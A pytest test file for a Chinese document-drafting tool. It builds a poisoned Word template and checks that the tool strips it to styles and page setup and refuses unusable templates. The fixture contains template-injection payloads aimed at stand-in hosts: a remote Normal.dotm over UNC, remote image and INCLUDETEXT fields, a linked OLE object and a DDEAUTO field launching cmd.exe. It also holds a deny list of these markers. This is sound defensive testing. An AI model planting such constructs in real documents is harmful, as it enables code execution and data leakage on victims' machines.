"""Issue 26, points 2 and 3: a unit template (--reference-docx) carries styles, numbering, fonts,
theme and page setup only, and a template drafter cannot use is a clear refusal.

The hostile template is built here from drafter's own output: a remote attached template (a URL and
a UNC path), a mail-merge source, a macro project, an ActiveX control, custom XML bound to a content
control, a glossary, remote pictures (a relationship, a VML href, an INCLUDEPICTURE field), an
INCLUDETEXT field, a linked OLE object and a remote hyperlink, in the document and in its header.
Every part of the output package is then read: nothing of that may be left, and the template's own
styles, page size and header text must be.
"""
from __future__ import annotations

import re
import zipfile
from pathlib import Path
from typing import Dict

import pytest

from conftest import EXAMPLES

EVIL = ("evil.example", "evil-host", "intranet.example")
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
KEPT_KINDS = {"officeDocument", "core-properties", "extended-properties", "styles", "stylesWithEffects",
              "numbering", "fontTable", "theme", "settings", "webSettings", "header", "footer", "footnotes",
              "endnotes", "image", "font"}
MAIN_TYPES = {
    ".docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    ".dotx": "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
    ".docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
    ".dotm": "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
}
HEADER = """<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">
<w:p><w:r><w:t>本单位页眉</w:t></w:r></w:p>
<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>单位网站</w:t></w:r></w:hyperlink></w:p>
<w:p><w:r><w:pict><v:shape style="width:10pt;height:10pt"><v:imagedata r:id="rIdPic" o:title="页眉图"/></v:shape></w:pict></w:r></w:p>
<w:p><w:r><w:pict><v:shape style="width:10pt;height:10pt"><v:imagedata o:href="http://evil.example/vml.png"/></v:shape></w:pict></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "http://evil.example/field.png" \\d </w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>旧图</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:fldSimple w:instr=' INCLUDETEXT "\\\\evil-host\\share\\part.docx" '><w:r><w:t>引入的文字</w:t></w:r></w:fldSimple></w:p>
<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>
<w:sdt><w:sdtPr><w:dataBinding w:xpath="/root/secret" w:storeItemID="{00000000-0000-0000-0000-000000000001}"/></w:sdtPr>
<w:sdtContent><w:p><w:r><w:t>绑定的内容</w:t></w:r></w:p></w:sdtContent></w:sdt>
<w:p><w:r><w:object><v:shape style="width:10pt;height:10pt"><v:imagedata r:id="rIdPic"/></v:shape>
<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" r:id="rIdOle" UpdateMode="Always"/></w:object></w:r></w:p>
<w:p><w:r><w:control r:id="rIdCtl" w:name="按钮"/></w:r></w:p>
</w:hdr>"""


def _rels(*rels) -> bytes:
    body = "".join(f'<Relationship Id="{i}" Type="{t if "/" in t else REL + t}" Target="{target}"'
                   + (' TargetMode="External"' if ext else "") + "/>" for i, t, target, ext in rels)
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{PKG}">{body}</Relationships>'.encode()


def hostile_template(base: Path, out: Path) -> Path:
    """``base`` (a .docx drafter wrote) made into a poisoned unit template at ``out``; the main
    part's content type follows ``out``'s suffix (.docx, .dotx, .docm, .dotm)."""
    with zipfile.ZipFile(base) as z:
        parts: Dict[str, bytes] = {n: z.read(n) for n in z.namelist()}
    types = parts["[Content_Types].xml"].decode()
    types = re.sub(r'(PartName="/word/document.xml" ContentType=")[^"]+', r"\g<1>" + MAIN_TYPES[out.suffix], types)
    extra = {"/word/vbaProject.bin": "application/vnd.ms-office.vbaProject",
             "/word/vbaData.xml": "application/vnd.ms-word.vbaData+xml",
             "/word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml",
             "/word/activeX/activeX1.bin": "application/vnd.ms-office.activeX",
             "/customXml/item1.xml": "application/xml",
             "/word/glossary/document.xml":
                 "application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml",
             "/word/header9.xml": "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"}
    types = types.replace("</Types>", "".join(f'<Override PartName="{n}" ContentType="{t}"/>'
                                              for n, t in extra.items()) + "</Types>")
    parts["[Content_Types].xml"] = types.encode()
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 VBA macro project AutoOpen Shell evil.example"
    parts["word/vbaData.xml"] = b'<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
    parts["word/_rels/vbaProject.bin.rels"] = _rels(("rId1", "http://schemas.microsoft.com/office/2006/relationships/wordVbaData", "vbaData.xml", False))
    parts["word/activeX/activeX1.xml"] = b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'
    parts["word/activeX/activeX1.bin"] = b"binary control evil.example"
    parts["word/activeX/_rels/activeX1.xml.rels"] = _rels(("rId1", "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary", "activeX1.bin", False))
    parts["customXml/item1.xml"] = b'<?xml version="1.0"?><root><secret>intranet.example password</secret></root>'
    parts["word/glossary/document.xml"] = parts["word/document.xml"].replace(b"w:document", b"w:glossaryDocument")
    parts["word/header9.xml"] = HEADER.encode()
    parts["word/_rels/header9.xml.rels"] = _rels(
        ("rIdLink", "hyperlink", "http://intranet.example/site", True),
        ("rIdPic", "image", "http://evil.example/header.png", True),
        ("rIdOle", "oleObject", "\\\\evil-host\\share\\sheet.xlsx", True),
        ("rIdCtl", "control", "activeX/activeX1.xml", False))
    rels = parts["word/_rels/document.xml.rels"].decode()
    rels = rels.replace("</Relationships>", _rels(
        ("rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False),
        ("rIdCx", "customXml", "../customXml/item1.xml", False),
        ("rIdGl", "glossaryDocument", "glossary/document.xml", False),
        ("rIdH9", "header", "header9.xml", False),
        ("rIdImg", "image", "http://evil.example/body.png", True),
        ("rIdSub", "subDocument", "file:///\\\\evil-host\\share\\sub.docx", True),
    ).decode().split(f'<Relationships xmlns="{PKG}">', 1)[1])
    parts["word/_rels/document.xml.rels"] = rels.encode()
    doc = parts["word/document.xml"].decode()
    # the header in the page setup of the last section, so it is used
    doc = re.sub(r"(<w:sectPr[^>]*>)", r'\1<w:headerReference w:type="first" r:id="rIdH9"/>', doc[::-1].replace(
        "<w:sectPr"[::-1], "<w:sectPr"[::-1], 1)[::-1], count=0)
    doc = doc.replace("<w:body>", '<w:body><w:p><w:r><w:t>模板里的示范正文</w:t></w:r></w:p>', 1)
    parts["word/document.xml"] = doc.encode()
    settings = parts["word/settings.xml"].decode()
    settings = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/><w:linkStyles/>'
                      r'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource r:id="rIdMm"/></w:mailMerge>'
                      r'<w:docVars><w:docVar w:name="a" w:val="intranet.example"/></w:docVars>', settings, count=1)
    if 'xmlns:r=' not in settings.split(">", 2)[1]:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{REL[:-1]}" ', 1)
    parts["word/settings.xml"] = settings.encode()
    parts["word/_rels/settings.xml.rels"] = _rels(
        ("rIdTpl", "attachedTemplate", "\\\\evil-host\\templates\\Normal.dotm", True),
        ("rIdMm", "mailMergeSource", "http://evil.example/recipients.xlsx", True))
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return out


@pytest.fixture
def base(tmp_path, drafter_cli) -> Path:
    """A unit template: drafter's own output with a page size and a style of the unit's."""
    out = tmp_path / "base.docx"
    assert drafter_cli("render", EXAMPLES / "leader-speech.yaml", "-o", out).exit_code == 0
    with zipfile.ZipFile(out) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    doc = parts["word/document.xml"].decode()
    doc, n = re.subn(r'<w:pgSz [^>]*/>', '<w:pgSz w:w="11000" w:h="15000"/>', doc)
    assert n
    parts["word/document.xml"] = doc.encode()
    styles = parts["word/styles.xml"].decode().replace(
        "</w:styles>", '<w:style w:type="paragraph" w:styleId="UnitStyle"><w:name w:val="本单位样式"/></w:style></w:styles>')
    parts["word/styles.xml"] = styles.encode()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return out


def _inspect(out: Path) -> None:
    """Every part of the output: nothing that names an outside target, runs code or binds data."""
    from lxml import etree
    with zipfile.ZipFile(out) as z:
        names = z.namelist()
        types = z.read("[Content_Types].xml").decode()
        for bad in ("vbaProject", "vbaData", "activeX", "customXml", "glossary", "macroEnabled", "embeddings"):
            assert not [n for n in names if bad.lower() in n.lower()], (bad, names)
            assert bad not in types, bad
        for name in names:
            data = z.read(name)
            for host in EVIL:
                assert host.encode() not in data, (host, name)
            if name.endswith(".rels"):
                for rel in etree.fromstring(data).iter(f"{{{PKG}}}Relationship"):
                    assert rel.get("TargetMode") != "External", (name, rel.attrib)
                    assert rel.get("Type").rsplit("/", 1)[-1] in KEPT_KINDS, (name, rel.attrib)
            elif name.endswith(".xml"):
                text = data.decode("utf-8")
                for bad in ("INCLUDEPICTURE", "INCLUDETEXT", "DDEAUTO", "w:dataBinding", "<w:object", "<w:control",
                            "w:attachedTemplate", "w:mailMerge", "w:docVars", "o:OLEObject", "w:linkStyles"):
                    assert bad not in text, (bad, name)
        assert "本单位样式" in z.read("word/styles.xml").decode()
        assert 'w:w="11000"' in z.read("word/document.xml").decode()
        headers = "".join(z.read(n).decode() for n in names if re.match(r"word/header\d*\.xml$", n))
        assert "本单位页眉" in headers and "单位网站" in headers and "绑定的内容" in headers
        assert "模板里的示范正文" not in z.read("word/document.xml").decode()
    import docx
    docx.Document(str(out))   # python-docx still opens it


WARNED = ("宏", "附加的模板", "\\\\evil-host\\templates\\Normal.dotm", "邮件合并数据源", "ActiveX 控件", "自定义 XML 数据",
          "数据绑定 /root/secret", "http://evil.example/header.png", "http://evil.example/body.png", "INCLUDEPICTURE", "INCLUDETEXT",
          "DDEAUTO", "超链接", "文档部件库", "子文档")


@pytest.mark.parametrize("suffix", [".docx", ".dotx", ".docm", ".dotm"])
def test_render_with_a_poisoned_template_keeps_only_styles_and_page_setup(base, tmp_path, drafter_cli, suffix):
    tpl = hostile_template(base, tmp_path / f"本单位模板{suffix}")
    out = tmp_path / "讲话.docx"
    r = drafter_cli("render", EXAMPLES / "leader-speech.yaml", "-o", out, "--reference-docx", tpl)
    assert r.exit_code == 0, r.output
    warnings = [line for line in r.output.splitlines() if line.startswith("警告：参考模板")]
    assert len(warnings) == 1, r.output
    for word in WARNED:
        assert word in warnings[0], (word, warnings[0])
    assert ("启用宏的文件" in warnings[0]) == (suffix in (".docm", ".dotm"))
    _inspect(out)


def test_format_and_batches_clean_the_template_and_warn_once(base, tmp_path, drafter_cli):
    tpl = hostile_template(base, tmp_path / "本单位模板.dotm")
    draft = tmp_path / "手稿.txt"
    draft.write_text("关于做好社会工作的讲话\n\n同志们：\n\n今天我们开会，研究部署下一阶段的工作。\n", encoding="utf-8")
    r = drafter_cli("format", draft, "-o", tmp_path / "排好.docx", "--reference-docx", tpl)
    assert r.exit_code == 0 and r.output.count("警告：参考模板") == 1, r.output
    _inspect(tmp_path / "排好.docx")
    folder = tmp_path / "问卷"
    folder.mkdir()
    for name in ("甲", "乙", "丙"):
        (folder / f"{name}.yaml").write_bytes((EXAMPLES / "leader-speech.yaml").read_bytes())
    r = drafter_cli("render", folder, "-o", f"{tmp_path / '文稿'}/", "--reference-docx", tpl, "-j", "1")
    assert r.exit_code == 0 and r.output.count("警告：参考模板") == 1, r.output
    for out in sorted((tmp_path / "文稿").glob("*.docx")):
        _inspect(out)


def test_a_clean_template_gives_no_warning(base, tmp_path, drafter_cli):
    r = drafter_cli("render", EXAMPLES / "leader-speech.yaml", "-o", tmp_path / "讲话.docx", "--reference-docx", base)
    assert r.exit_code == 0 and "警告" not in r.output, r.output


# --- point 3: a template drafter cannot use ------------------------------------------------------

def _bad_template(tmp_path: Path, kind: str) -> Path:
    if kind == "missing":
        return tmp_path / "没有这个模板.docx"
    if kind == "folder":
        folder = tmp_path / "模板.docx"
        folder.mkdir()
        return folder
    path = tmp_path / "模板.docx"
    if kind == "not a zip":
        path.write_text("这不是 Word 文件", encoding="utf-8")
    elif kind == "encrypted":   # what Word writes for a password-protected .docx: an OLE file
        path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 200 + "EncryptedPackage".encode("utf-16-le")
                         + b"\0" * 300)
    elif kind == "empty":
        path.write_bytes(b"")
    return path


@pytest.mark.parametrize("kind", ["missing", "folder", "not a zip", "encrypted", "empty"])
@pytest.mark.parametrize("command", ["render", "format"])
def test_a_template_drafter_cannot_use_is_a_clear_refusal(tmp_path, drafter_cli, kind, command):
    src = EXAMPLES / "leader-speech.yaml"
    if command == "format":
        src = tmp_path / "手稿.txt"
        src.write_text("关于做好社会工作的讲话\n\n同志们：\n\n今天开会。\n", encoding="utf-8")
    tpl = _bad_template(tmp_path, kind)
    out = tmp_path / "出.docx"
    r = drafter_cli(command, src, "-o", out, "--reference-docx", tpl)
    assert r.exit_code in (1, 2), r.output
    assert "内部错误" not in r.output and "Traceback" not in r.output, r.output
    assert tpl.name in r.output and "提示" in r.output, r.output
    assert not out.exists()
    if kind in ("encrypted", "empty", "missing", "folder"):
        assert {"encrypted": "已加密", "empty": "空文件", "missing": "不存在", "folder": "文件夹"}[kind] in r.output, r.output
